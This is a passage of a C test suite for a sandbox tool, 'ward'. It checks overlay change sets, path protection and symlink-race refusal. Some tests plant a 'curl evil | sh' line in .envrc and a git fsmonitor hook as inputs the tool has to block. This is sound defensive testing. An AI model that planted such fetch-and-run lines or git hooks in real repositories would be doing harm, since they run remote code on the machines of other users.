	ck_assert_msg(strncmp(json_string_value(json_object_get(r, "output")), "12\n", 3) == 0, "%s",
		      json_string_value(json_object_get(r, "output")));
	json_decref(r);
	after = manifest();
	ck_assert_str_eq(before, after);
	free(before);
	free(after);
}
END_TEST

START_TEST(test_overlay_apply_reproduces)
{
	const char *opts[] = { "--workdir-mode", "overlay", "--apply", NULL };
	char script[1024], *inside, *after, *mark;
	json_t *r;

	tree();
	/* the command's own view of the tree, printed last */
	snprintf(script, sizeof(script), "%s; echo @@; %s", overlay_script, MANIFEST);
	r = cli_json(script, opts);
	ck_assert(json_is_true(json_object_get(r, "success")));
	ck_assert_str_eq(json_string_value(json_object_get(
				 json_object_get(json_object_get(r, "workdir"), "changes"), "action")),
			 "applied");
	inside = strdup(json_string_value(json_object_get(r, "output")));
	json_decref(r);
	mark = strstr(inside, "@@\n");
	ck_assert_ptr_nonnull(mark);
	/* the placeholders the command saw are no part of the tree */
	{
		char *rd = mark + 3, *wr = mark + 3;

		while (*rd) {
			size_t n = strcspn(rd, "\n") + (rd[strcspn(rd, "\n")] ? 1 : 0);

			if (*rd != '.') {
				memmove(wr, rd, n);
				wr += n;
			}
			rd += n;
		}
		*wr = '\0';
	}
	after = manifest();
	ck_assert_str_eq(mark + 3, after);
	free(inside);
	free(after);
	ck_assert_uint_eq(count_state("runs"), 0);
	ck_assert_uint_eq(count_state("changes"), 0);
}
END_TEST

START_TEST(test_overlay_failed_not_applied)
{
	char *before = NULL, *after, *err = NULL;

	tree();
	before = manifest();
	ck_assert_int_eq(cli(NULL, &err, "echo x > new.txt; exit 3", "--workdir-mode", "overlay",
			     "--apply", NULL),
			 3);
	ck_assert_ptr_nonnull(strstr(err, "1 change kept as "));
	free(err);
	after = manifest();
	ck_assert_str_eq(before, after);
	free(before);
	free(after);
	ck_assert_uint_eq(count_state("changes"), 1);
}
END_TEST

START_TEST(test_kept_then_applied)
{
	char *out = NULL, *err = NULL, name[64], *diff = NULL, *after;
	const char *p;

	tree();
	ck_assert_int_eq(cli(&out, &err,
			     "echo two-changed > mod.txt; echo hi > added.txt; rm gone.txt; "
			     "printf '\\0\\1\\2' > bin.dat",
			     "--workdir-mode", "overlay", NULL),
			 0);
	p = strstr(err, "kept as ");
	ck_assert_ptr_nonnull(p);
	ck_assert_int_eq(sscanf(p, "kept as %63s", name), 1);
	free(out);
	free(err);
	out = host_sh(workdir, "cat mod.txt; test -e gone.txt && echo still");
	ck_assert_str_eq(out, "two\nstill\n");
	free(out);
	/* ward changes lists it, ward diff shows it */
	ck_assert_int_eq(ward_cmd(&out, NULL, "changes", NULL), 0);
	ck_assert_ptr_nonnull(strstr(out, name));
	ck_assert_ptr_nonnull(strstr(out, "4 changes"));
	free(out);
	ck_assert_int_eq(ward_cmd(&diff, NULL, "diff", name), 0);
	ck_assert_ptr_nonnull(strstr(diff, "Binary files a/bin.dat and b/bin.dat differ\n"));
	ck_assert_ptr_nonnull(strstr(diff, "--- a/mod.txt\n+++ b/mod.txt\n@@ -1 +1 @@\n-two\n"
					   "+two-changed\n"));
	ck_assert_ptr_nonnull(strstr(diff, "+++ b/added.txt\n@@ -0,0 +1 @@\n+hi\n"));
	ck_assert_ptr_nonnull(strstr(diff, "--- a/gone.txt\n+++ b/gone.txt\n@@ -1 +0,0 @@\n"
					   "-three\n"));
	free(diff);
	ck_assert_int_eq(ward_cmd(&out, NULL, "apply", name), 0);
	free(out);
	after = host_sh(workdir, "cat mod.txt added.txt; test -e gone.txt || echo gone; "
				 "od -An -c bin.dat");
	ck_assert_str_eq(after, "two-changed\nhi\ngone\n  \\0 001 002\n");
	free(after);
	ck_assert_uint_eq(count_state("changes"), 0);
	ck_assert_int_eq(ward_cmd(NULL, &err, "apply", name), 125); /* it is gone */
	free(err);
}
END_TEST

/* A directory a kept set writes into becomes a symbolic link to elsewhere
 * between the set's scan (ward_changeset_open) and its apply: the apply
 * (forced, so that no conflict check stands in the way: only the
 * resolution below the workdir without links does) refuses to follow it,
 * and nothing is written where it points (a directory this test owns). */
START_TEST(test_apply_not_through_symlink)
{
	struct ward_config cfg;
	struct ward_result res;
	struct ward_error *err = NULL;
	char *argv[] = { (char *)"/bin/sh", (char *)"-c", (char *)"echo new > d/f", NULL };
	char *elsewhere = harness_tmpdir(), path[4200], *cmd, *out;
	struct ward_changeset *cs;
	char name[64];

	out = host_sh(workdir, "mkdir d && echo ok");
	free(out);
	ward_config_init(&cfg);
	ck_assert_int_eq(ward_config_set_workdir(&cfg, workdir, NULL), 0);
	cfg.workdir_mode = WARD_WORKDIR_OVERLAY;
	ck_assert_int_eq(ward_run(&cfg, argv, &res, &err), 0);
	ck_assert_msg(res.exit_code == 0 && res.workdir && res.workdir->changes, "%s", res.output);
	cs = res.workdir->changes;
	ck_assert_uint_eq(ward_changeset_count(cs), 1);
	ck_assert_str_eq(ward_changeset_get(cs, 0)->path, "d/f");
	ck_assert_int_eq(ward_changeset_keep(cs, name, sizeof(name), &err), 0);
	ward_result_release(&res);
	cs = ward_changeset_open(NULL, name, &err);
	ck_assert_ptr_nonnull(cs);
	/* scanned: now d becomes a link out of the workdir */
	ck_assert_int_ge(asprintf(&cmd, "rmdir d && ln -s '%s' d && echo ok", elsewhere), 0);
	out = host_sh(workdir, cmd);
	ck_assert_str_eq(out, "ok\n");
	free(out);
	free(cmd);
	ward_changeset_set_force(cs, true);
	ck_assert_int_eq(ward_changeset_apply(cs, cfg.protect, &err), -1);
	ck_assert_ptr_nonnull(err);
	ward_error_free(err);
	ward_changeset_free(cs);
	snprintf(path, sizeof(path), "%s/f", elsewhere);
	ck_assert_msg(access(path, F_OK) == -1, "the apply wrote through d into %s", elsewhere);
	harness_rmtree(elsewhere);
	free(elsewhere);
	ward_config_release(&cfg);
}
END_TEST

/* A kept set applied after someone edited a file it changes: refused, naming
 * it, unless forced; edits elsewhere do not matter. */
START_TEST(test_apply_conflict)
{
	char *err = NULL, *out = NULL, name[64];
	const char *p;
	char *argv[] = { ward, (char *)"apply", (char *)"-C", workdir, name, (char *)"--force", NULL };

	tree();
	ck_assert_int_eq(cli(NULL, &err, "echo mine > mod.txt; echo new > added.txt",
			     "--workdir-mode", "overlay", NULL),
			 0);
	p = strstr(err, "kept as ");
	ck_assert_ptr_nonnull(p);
	ck_assert_int_eq(sscanf(p, "kept as %63s", name), 1);
	free(err);
	/* continued: the new entry joins the set's record of the workdir */
	ck_assert_int_eq(cli(NULL, NULL, "echo more > more.txt", "--changes", name, NULL), 0);
	write_file("keep.txt", "edited elsewhere\n"); /* not in the set */
	ck_assert_int_eq(ward_cmd(&out, &err, "apply", name), 0);
	free(out);
	free(err);
	out = host_sh(workdir, "cat mod.txt added.txt more.txt keep.txt");
	ck_assert_str_eq(out, "mine\nnew\nmore\nedited elsewhere\n");
	free(out);

	ck_assert_int_eq(cli(NULL, &err, "echo theirs > mod.txt", "--workdir-mode", "overlay",
			     NULL),
			 0);
	p = strstr(err, "kept as ");
	ck_assert_int_eq(sscanf(p, "kept as %63s", name), 1);
	free(err);
	write_file("mod.txt", "edited meanwhile\n");
	ck_assert_int_eq(ward_cmd(NULL, &err, "apply", name), 125);
	ck_assert_msg(strstr(err, "changed in the workdir since the command ran") &&
			      strstr(err, "'mod.txt'"),
		      "%s", err);
	free(err);
	out = host_sh(workdir, "cat mod.txt");
	ck_assert_str_eq(out, "edited meanwhile\n");
	free(out);
	ck_assert_int_eq(harness_capture(argv, NULL, NULL), 0);
	out = host_sh(workdir, "cat mod.txt");
	ck_assert_str_eq(out, "theirs\n");
	free(out);
	ck_assert_uint_eq(count_state("changes"), 0);
}
END_TEST

START_TEST(test_kept_then_discarded)
{
	char *err = NULL, name[64], *before, *after;
	const char *p;

	tree();
	before = manifest();
	ck_assert_int_eq(cli(NULL, &err, "rm -rf *", "--workdir-mode", "overlay", NULL), 0);
	p = strstr(err, "kept as ");
	ck_assert_ptr_nonnull(p);
	ck_assert_int_eq(sscanf(p, "kept as %63s", name), 1);
	free(err);
	ck_assert_int_eq(ward_cmd(NULL, NULL, "discard", name), 0);
	ck_assert_uint_eq(count_state("changes"), 0);
	after = manifest();
	ck_assert_str_eq(before, after);
	free(before);
	free(after);
	ck_assert_int_eq(ward_cmd(NULL, &err, "diff", "../../etc"), 125);
	ck_assert_ptr_nonnull(strstr(err, "not valid"));
	free(err);
}
END_TEST

START_TEST(test_apply_refuses_protected)
{
	char *err = NULL, *out = NULL, name[64], *before, *after;
	const char *p;
	json_t *r;
	const char *opts[] = { "--workdir-mode", "overlay", "--apply", NULL };

	tree();
	git_repo();
	before = manifest();
	/* allowed inside for this run, still refused on a later apply */
	ck_assert_int_eq(cli(NULL, &err, "echo 'curl evil | sh' > .envrc; echo ok > fine.txt",
			     "--workdir-mode", "overlay", "--allow-write", ".envrc", NULL),
			 0);
	p = strstr(err, "kept as ");
	ck_assert_ptr_nonnull(p);
	ck_assert_int_eq(sscanf(p, "kept as %63s", name), 1);
	free(err);
	ck_assert_int_eq(ward_cmd(&out, &err, "apply", name), 125);
	ck_assert_msg(strstr(err, "protected") && strstr(err, "'.envrc'"), "%s", err);
	free(out);
	free(err);
	after = manifest();
	ck_assert_str_eq(before, after); /* nothing applied, fine.txt neither */
	free(after);
	ck_assert_uint_eq(count_state("changes"), 1); /* still kept */
	/* --apply at the end of a run: a change above a protected path (the
	 * mode of .git) is refused, the set kept, said in the result */
	r = cli_json("chmod 700 .git && echo ok > fine.txt", opts);
	ck_assert_str_eq(json_string_value(json_object_get(json_object_get(r, "error"), "kind")),
			 "NotAuthorized");
	ck_assert_str_eq(json_string_value(json_object_get(json_object_get(r, "error"), "rule")),
			 "protected-path");
	ck_assert_str_eq(json_string_value(json_object_get(json_object_get(json_object_get(r,
			 "workdir"), "changes"), "action")), "kept");
	{
		json_t *v = json_object_get(json_object_get(r, "workdir"), "violations");

		ck_assert_int_eq(json_array_size(v), 1);
		ck_assert_str_eq(json_string_value(json_object_get(json_array_get(v, 0), "path")),
				 ".git");
		ck_assert_str_eq(json_string_value(json_object_get(json_array_get(v, 0), "seen")),
				 "change-set");
	}
	json_decref(r);
	/* a new repository further down (git uses the nearest .git) */
	r = cli_json("git init -q sub && printf '[core]\\n\\tfsmonitor = evil\\n' >> sub/.git/config",
		     opts);
	ck_assert_str_eq(json_string_value(json_object_get(json_object_get(r, "error"), "rule")),
			 "protected-path");
	ck_assert_ptr_nonnull(strstr(json_string_value(json_object_get(json_object_get(r, "error"),
									"message")),
				     "'sub/.git'"));
	json_decref(r);
	after = manifest();
	ck_assert_str_eq(before, after);
	free(before);
	free(after);
}
END_TEST

START_TEST(test_library_changeset)
{
	struct ward_config cfg;
	struct ward_result res;
	struct ward_error *err = NULL;
	char *argv[] = { (char *)"/bin/sh", (char *)"-c",
			 (char *)"echo a > x.txt; mkdir -p .git/hooks; echo evil > .gitmodules",
			 NULL };
	struct ward_changeset *cs;
	char name[64];

	ward_config_init(&cfg);
	ck_assert_int_eq(ward_config_set_workdir(&cfg, workdir, NULL), 0);
	cfg.workdir_mode = WARD_WORKDIR_OVERLAY;
	ck_assert_int_eq(ward_protect_allow(ward_config_protect(&cfg, NULL), ".gitmodules", NULL),
			 0);
	ck_assert_int_eq(ward_run(&cfg, argv, &res, &err), 0);
	ck_assert_ptr_nonnull(res.workdir);
	cs = res.workdir->changes;
	ck_assert_ptr_nonnull(cs);
	/* .git/hooks stayed protected (a placeholder covers the missing .git) */
	ck_assert_uint_eq(ward_changeset_count(cs), 2);
	ck_assert_str_eq(ward_changeset_get(cs, 0)->path, ".gitmodules");
	ck_assert_str_eq(ward_changeset_get(cs, 1)->path, "x.txt");
	ck_assert_int_eq(ward_changeset_apply(cs, NULL, &err), -1);
	ck_assert_int_eq(err->kind, WARD_ERR_NOT_AUTHORIZED);
	ward_error_free(err);
	err = NULL;
	ck_assert_int_eq(ward_changeset_keep(cs, name, sizeof(name), &err), 0);
	ward_result_release(&res);
	cs = ward_changeset_open(NULL, name, &err);
	ck_assert_ptr_nonnull(cs);
	ck_assert_int_eq(ward_changeset_apply(cs, cfg.protect, &err), 0);
	ward_changeset_free(cs);
	ck_assert_uint_eq(count_state("changes"), 0);
	{
		char *out = host_sh(workdir, "cat x.txt .gitmodules");

		ck_assert_str_eq(out, "a\nevil\n");
		free(out);
	}
	/* an undecided set is discarded with the result */
	ck_assert_int_eq(ward_run(&cfg, argv, &res, &err), 0);
	ck_assert_uint_eq(count_state("runs"), 1);
	ward_result_release(&res);
	ck_assert_uint_eq(count_state("runs"), 0);
	ward_config_release(&cfg);
}
END_TEST

/* The pool's directories by inode, "kept-" ones left out, sorted. */
static size_t pool_inodes(ino_t *v, size_t max)
{
	char pool[4200], path[4500];
	DIR *d;
	struct dirent *e;
	size_t n = 0;

	snprintf(pool, sizeof(pool), "%s/ward/placeholders", state);
	d = opendir(pool);
	while (d && (e = readdir(d)) && n < max) {
		struct stat st;

		if (e->d_name[0] == '.' || strncmp(e->d_name, "kept-", 5) == 0)
			continue;
		snprintf(path, sizeof(path), "%s/%s", pool, e->d_name);
		ck_assert_int_eq(lstat(path, &st), 0);
		ck_assert_msg(S_ISDIR(st.st_mode) && (st.st_mode & S_ISVTX), "'%s' is no spare", path);
		v[n++] = st.st_ino;
	}
	if (d)
		closedir(d);
	for (size_t i = 1; i < n; i++) /* insertion sort: a handful */
		for (size_t j = i; j > 0 && v[j - 1] > v[j]; j--) {
			ino_t t = v[j];

			v[j] = v[j - 1];
			v[j - 1] = t;
		}
	return n;
}

/* The spares' modes: each PH_MODE (01555, moved as it is by a root ward) or
 * not (01755, writable for the move), as want says; at least ten of them. */
static void pool_modes(mode_t want)
{
	size_t n = 0;

	char pool[4200], path[4500];
	struct dirent *e;
	DIR *d;

	snprintf(pool, sizeof(pool), "%s/ward/placeholders", state);
	d = opendir(pool);
	ck_assert_ptr_nonnull(d);
	while ((e = readdir(d))) {
		struct stat st;

		if (e->d_name[0] == '.' || strncmp(e->d_name, "kept-", 5) == 0)
			continue;
		snprintf(path, sizeof(path), "%s/%s", pool, e->d_name);
		ck_assert_int_eq(lstat(path, &st), 0);
		ck_assert_msg((st.st_mode & 07777) == want, "'%s' has mode %o, not %o", path,
			      (unsigned)(st.st_mode & 07777), (unsigned)want);
		n++;
	}
	closedir(d);
	ck_assert_uint_ge(n, 10);
}

/* A root ward's spares stay read-only in the pool (CAP_DAC_OVERRIDE lets
 * rename() move a directory it cannot write). A root without that
 * capability cannot move them: it makes its own, protected as well, leaves
 * nothing in the workdir, and puts its spares back writable. */
static void no_dac_override_ward(void)
{
	char pool[4200], path[4500];
	struct dirent *e;
	pid_t pid;
	int st;
	DIR *d;

	pool_modes(01555);
	for (int round = 0; round < 2; round++) {
		pid = fork();
		ck_assert_int_ge(pid, 0);
		if (pid == 0) {
			if (prctl(PR_CAPBSET_DROP, CAP_DAC_OVERRIDE, 0, 0, 0) < 0)
				_exit(99);
			_exit(cli(NULL, NULL,
				  "test -d .envrc && ! touch .envrc/x 2>/dev/null && "
				  "! (echo x > .npmrc) 2>/dev/null && test ! -f .npmrc",
				  NULL));
		}
		ck_assert_int_eq(waitpid(pid, &st, 0), pid);
		ck_assert_msg(WIFEXITED(st) && WEXITSTATUS(st) == 0, "round %d: status %d", round,
			      st);
		ck_assert_uint_eq(count_entries(workdir), 0);
		ck_assert_uint_eq(count_state("runs"), 0);
		if (round == 1)
			break;
		/* an empty pool now: the next one's spares are its own */
		snprintf(pool, sizeof(pool), "%s/ward/placeholders", state);
		d = opendir(pool);
		ck_assert_ptr_nonnull(d);
		while ((e = readdir(d)))
			if (e->d_name[0] != '.') {
				snprintf(path, sizeof(path), "%s/%s", pool, e->d_name);
				rmdir(path);
			}
		closedir(d);
	}
	pool_modes(01755);
}

/* Placeholders no longer needed wait in the state directory and the next
 * ward renames them into place instead of making new ones; a spare found
 * with something in it is never handed out: it goes aside with what it
 * holds, and the command never sees it. */
START_TEST(test_placeholders_pooled)
{
	char path[4300];
	ino_t a[64], b[64];
	size_t na, nb;
	int fd;

	snprintf(path, sizeof(path), "%s/ward", state);
	ck_assert_int_eq(mkdir(path, 0700), 0);
	snprintf(path, sizeof(path), "%s/ward/placeholders", state);
	ck_assert_int_eq(mkdir(path, 0700), 0);
	snprintf(path, sizeof(path), "%s/ward/placeholders/spare", state);
	ck_assert_int_eq(mkdir(path, 01755), 0);
	snprintf(path, sizeof(path), "%s/ward/placeholders/spare/x", state);
	fd = open(path, O_WRONLY | O_CREAT, 0644);
	ck_assert_int_ge(fd, 0);
	close(fd);

	/* the first placeholder wanted (.git) meets it first */
	ck_assert_int_eq(cli(NULL, NULL, "test ! -e .git/x && ! ls -A .git | grep -q .", NULL), 0);
	ck_assert_uint_eq(count_entries(workdir), 0);
	snprintf(path, sizeof(path), "%s/ward/placeholders/kept-spare/x", state);
	ck_assert_int_eq(access(path, F_OK), 0);
	na = pool_inodes(a, ARRAY_LEN(a));
	ck_assert_uint_ge(na, 10);

	/* the same directories again, renamed in and out */
	ck_assert_int_ne(cli(NULL, NULL, "echo x > .envrc", NULL), 0);
	nb = pool_inodes(b, ARRAY_LEN(b));
	ck_assert_uint_eq(na, nb);
	for (size_t i = 0; i < na; i++)
		ck_assert_msg(a[i] == b[i], "a spare was made anew instead of reused");
	ck_assert_uint_eq(count_entries(workdir), 0);
	ck_assert_uint_eq(count_state("runs"), 0);
	if (geteuid() == 0)
		no_dac_override_ward();
}
END_TEST

/* A HOME ward may not enter (another user's, say): the run record
 * and the spare placeholders go to the private /tmp/ward-UID instead, and
 * the run works as anywhere else. */
START_TEST(test_state_fallback)
{
	char home[4200], tmp_state[64];
	bool existed;

	snprintf(tmp_state, sizeof(tmp_state), "/tmp/ward-%u", (unsigned)geteuid());
	existed = access(tmp_state, F_OK) == 0;
	snprintf(home, sizeof(home), "%s/home", state);
	ck_assert_int_eq(mkdir(home, 0), 0); /* not even to be looked into */
	setenv("HOME", home, 1);
	unsetenv("XDG_STATE_HOME");
	ck_assert_int_ne(cli(NULL, NULL, "echo x > .envrc", NULL), 0);
	ck_assert_int_eq(cli(NULL, NULL, "test -d .git && echo y > f", NULL), 0);
	ck_assert_uint_eq(count_entries(workdir), 1); /* f, and no placeholder */
	{
		char runs[128];

		snprintf(runs, sizeof(runs), "%s/runs", tmp_state);
		ck_assert_uint_eq(count_entries(runs), 0);
	}
	chmod(home, 0700);
	ck_assert_uint_eq(count_entries(home), 0);
	if (!existed)
		harness_rmtree(tmp_state);
}
END_TEST

START_TEST(test_many_runs_leave_nothing)
{
	char *before, *after, mounts_before[65536], mounts_after[65536];
	int fd;
	ssize_t n;

	bool own_mounts = harness_private_mounts(false);

	tree();
	before = manifest();
	fd = open("/proc/self/mountinfo", O_RDONLY);
	n = read(fd, mounts_before, sizeof(mounts_before) - 1);
	mounts_before[n > 0 ? n : 0] = '\0';
	close(fd);
	for (int i = 0; i < 6; i++) {
		ck_assert_int_eq(cli(NULL, NULL, "echo x > o.txt; rm mod.txt", "--workdir-mode",
				     "overlay", "--discard", NULL),
				 0);
		ck_assert_int_eq(cli(NULL, NULL, "cat keep.txt > /dev/null", NULL), 0);
		ck_assert_int_ne(cli(NULL, NULL, "echo x > .envrc", NULL), 0);
	}
	after = manifest();
	ck_assert_str_eq(before, after);
	free(before);
	free(after);
	ck_assert_uint_eq(count_state("runs"), 0);
	ck_assert_uint_eq(count_state("changes"), 0);
	fd = open("/proc/self/mountinfo", O_RDONLY);
	n = read(fd, mounts_after, sizeof(mounts_after) - 1);
	mounts_after[n > 0 ? n : 0] = '\0';
	close(fd);
	if (own_mounts)
		ck_assert_str_eq(mounts_before, mounts_after);
}
END_TEST

/* Overlay mode with a read-only directory on the way to two missing
 * protected paths: the overlay's own placeholder layer is still made (for a
 * ward without CAP_DAC_OVERRIDE too), and both stay covered. */
START_TEST(test_overlay_read_only_parent)
{
	char *out = NULL, *err = NULL, path[4200];

	snprintf(path, sizeof(path), "%s/.claude", workdir);
	ck_assert_int_eq(mkdir(path, 0555), 0);
	ck_assert_int_eq(cli(&out, &err,
			     "for f in settings.json settings.local.json; do "
			     "test -d .claude/$f && echo covered; done; "
			     "echo x > .claude/settings.json || echo refused",
			     "--workdir-mode", "overlay", "--discard", NULL),
			 0);
	ck_assert_msg(strcmp(out, "covered\ncovered\nrefused\n") == 0, "%s\n%s", out, err);
	free(out);
	free(err);
	ck_assert_uint_eq(count_entries(path), 0);
	ck_assert_uint_eq(count_state("runs"), 0);
	chmod(path, 0755);
}
END_TEST

START_TEST(test_overlay_needs_view)
{
	char *err = NULL;

	ck_assert_int_eq(cli(NULL, &err, "true", "--workdir-mode", "overlay", "--sandbox", "off",
			     NULL),
			 125);
	ck_assert_ptr_nonnull(strstr(err, "needs the sandbox's filesystem view"));
	free(err);
	ck_assert_int_eq(cli(NULL, &err, "true", "--apply", NULL), 125);
	ck_assert_ptr_nonnull(strstr(err, "--apply needs --workdir-mode overlay"));
	free(err);
	ck_assert_uint_eq(count_entries(workdir), 0);
	ck_assert_uint_eq(count_state("runs"), 0);
}
END_TEST

/* A series of runs adds up in one kept set; one run at a time per set. */
START_TEST(test_changes_accumulate)
{
	char *err = NULL, *out = NULL, name[64], *before, *after;
	const char *p;
	int st, pfd[2];
	pid_t slow;

	tree();
	before = manifest();
	ck_assert_int_eq(cli(NULL, &err, "echo one > one.txt", "--workdir-mode", "overlay", NULL), 0);
	p = strstr(err, "kept as ");
	ck_assert_ptr_nonnull(p);
	ck_assert_int_eq(sscanf(p, "kept as %63s", name), 1);
	free(err);
	ck_assert_int_eq(cli(&out, &err, "cat one.txt; echo two > two.txt; rm keep.txt", "--changes",
			     name, NULL),
			 0);
	ck_assert_str_eq(out, "one\n");
	ck_assert_ptr_nonnull(strstr(err, "3 changes kept as "));
	ck_assert_ptr_nonnull(strstr(err, name));
	free(out);
	free(err);
	after = manifest();
	ck_assert_str_eq(before, after);
	free(after);
	/* busy while another run has it */
	ck_assert_int_eq(pipe(pfd), 0);
	slow = fork();
	if (slow == 0) {
		char *argv[] = { ward, (char *)"run", (char *)harness_fences_policy_opt(), (char *)"-C", workdir,
				 (char *)"--changes", name, (char *)"-c",
				 (char *)"echo started; exec sleep 60", NULL };
		int fd = open("/dev/null", O_WRONLY);

		dup2(pfd[1], 1);
		dup2(fd, 2);
		execv(ward, argv);
		_exit(127);
	}
	close(pfd[1]);
	{
		char buf[16];

		ck_assert_int_gt(read(pfd[0], buf, sizeof(buf)), 0); /* it runs */
	}
	ck_assert_int_eq(cli(NULL, &err, "true", "--changes", name, NULL), 125);
	ck_assert_ptr_nonnull(strstr(err, "in use by another run"));
	free(err);
	ck_assert_int_eq(ward_cmd(NULL, &err, "apply", name), 125);
	ck_assert_ptr_nonnull(strstr(err, "in use by another run"));
	free(err);
	ck_assert_int_eq(ward_cmd(NULL, &err, "discard", name), 125);
	ck_assert_ptr_nonnull(strstr(err, "in use by another run"));
	free(err);
	kill(slow, SIGTERM); /* forwarded to the command; the set stays kept */
	waitpid(slow, &st, 0);
	close(pfd[0]);
	/* applied at last: all three */
	ck_assert_int_eq(cli(NULL, NULL, "true", "--changes", name, "--apply", NULL), 0);
	out = host_sh(workdir, "cat one.txt two.txt; test -e keep.txt || echo gone");
	ck_assert_str_eq(out, "one\ntwo\ngone\n");
	free(out);
	free(before);
	ck_assert_uint_eq(count_state("changes"), 0);
	ck_assert_int_eq(cli(NULL, &err, "true", "--changes", "nosuch", NULL), 125);
	ck_assert_ptr_nonnull(strstr(err, "change set 'nosuch'"));
	free(err);
}
END_TEST

/* ward's state kept inside the workdir (a home) is protected like the rest;
 * overlay mode there is refused, saying why. */
START_TEST(test_state_inside_workdir)
{
	char *err = NULL, *out = NULL, name[64], st_in[4200];
	char *other = harness_tmpdir(), *saved = workdir;
	const char *p;

	snprintf(st_in, sizeof(st_in), "%s/.local/state", workdir);
	setenv("XDG_STATE_HOME", st_in, 1);
	workdir = other; /* a set of another workdir, kept in this one */
	ck_assert_int_eq(cli(NULL, &err, "echo x > f", "--workdir-mode", "overlay", NULL), 0);
	workdir = saved;
	p = strstr(err, "kept as ");
	ck_assert_ptr_nonnull(p);
	ck_assert_int_eq(sscanf(p, "kept as %63s", name), 1);
	free(err);
	cli(&out, NULL,
	    "echo /etc > .local/state/ward/changes/*/workdir && echo TAMPERED; "
	    "echo x > .local/state/ward/changes/*/upper/f && echo TAMPERED; "
	    "rm -rf .local/state/ward/changes/* || echo refused",
	    NULL);
	ck_assert_str_eq(out, "refused\n");
	free(out);
	ck_assert_int_eq(cli(NULL, &err, "true", "--workdir-mode", "overlay", NULL), 125);
	ck_assert_ptr_nonnull(strstr(err, "state directory"));
	free(err);
	ck_assert_int_eq(ward_cmd(&out, NULL, "diff", name), 0);
	ck_assert_ptr_nonnull(strstr(out, "+x\n"));
	free(out);
	workdir = other; /* the set's own workdir */
	ck_assert_int_eq(ward_cmd(NULL, NULL, "discard", name), 0);
	workdir = saved;
	harness_rmtree(other);
	free(other);
}
END_TEST

START_TEST(test_overlay_result_bounded)
{
	const char *opts[] = { "--workdir-mode", "overlay", "--discard", NULL };
	json_t *r, *c;

	r = cli_json("mkdir d && cd d && seq 1205 | xargs touch", opts);
	c = json_object_get(json_object_get(r, "workdir"), "changes");
	ck_assert_int_eq(json_integer_value(json_object_get(c, "count")), 1206);
	ck_assert_int_eq(json_integer_value(json_object_get(c, "entries_omitted")), 206);
	ck_assert_int_eq(json_array_size(json_object_get(c, "entries")), 1000);
	json_decref(r);
	ck_assert_uint_eq(count_entries(workdir), 0);
}
END_TEST

int main(void)
{
	Suite *s = suite_create("workdir");
	TCase *prot = harness_tcase(s, "protected", "userns");
	TCase *life = harness_tcase(s, "lifecycle", "userns");
	TCase *ovl = harness_tcase(s, "overlay", "userns");

	tcase_add_checked_fixture(prot, setup, teardown);
	tcase_add_checked_fixture(life, setup, teardown);
	tcase_add_checked_fixture(ovl, setup, teardown);
	tcase_add_test(prot, test_protected_refused);
	tcase_add_test(prot, test_protected_refused_uid0);
	tcase_add_test(prot, test_protected_report);
	tcase_add_test(prot, test_git_init_needs_allow);
	tcase_add_test(prot, test_git_inside);
	tcase_add_test(prot, test_gitfile);
	tcase_add_test(prot, test_no_placeholders);
	tcase_add_test(prot, test_protected_links);
	tcase_add_test(prot, test_allow_and_protect);
	tcase_add_test(prot, test_home_workdir);
	tcase_add_test(life, test_placeholders_shared);
	tcase_add_test(life, test_placeholders_many_at_once);
	tcase_add_test(life, test_placeholders_concurrent_loops);
	tcase_add_test(life, test_killed_direct);
	tcase_add_test(life, test_live_lock_not_swept);
	tcase_add_test(life, test_killed_overlay);
	tcase_add_test(life, test_many_runs_leave_nothing);
	tcase_add_test(life, test_placeholders_pooled);
	{
		TCase *unpriv = harness_tcase(s, "state-fallback", "userns unpriv");

		tcase_add_checked_fixture(unpriv, setup, teardown);
		tcase_add_test(unpriv, test_state_fallback);
	}
	tcase_add_test(life, test_overlay_needs_view);
	tcase_add_test(ovl, test_overlay_reported_exactly);
	tcase_add_test(ovl, test_overlay_rm_rf);
	tcase_add_test(ovl, test_overlay_apply_reproduces);
	tcase_add_test(ovl, test_overlay_failed_not_applied);
	tcase_add_test(ovl, test_kept_then_applied);
	tcase_add_test(ovl, test_kept_then_discarded);
	tcase_add_test(ovl, test_apply_conflict);
	tcase_add_test(ovl, test_apply_refuses_protected);
	tcase_add_test(ovl, test_library_changeset);
	{
		TCase *links = harness_tcase(s, "apply-symlinks", "userns");

		tcase_add_checked_fixture(links, setup, teardown);
		tcase_add_test(links, test_apply_not_through_symlink);
	}
	tcase_add_test(ovl, test_changes_accumulate);
	tcase_add_test(ovl, test_overlay_result_bounded);
	tcase_add_test(ovl, test_overlay_read_only_parent);
	tcase_add_test(ovl, test_state_inside_workdir);
	return harness_main(s);
}
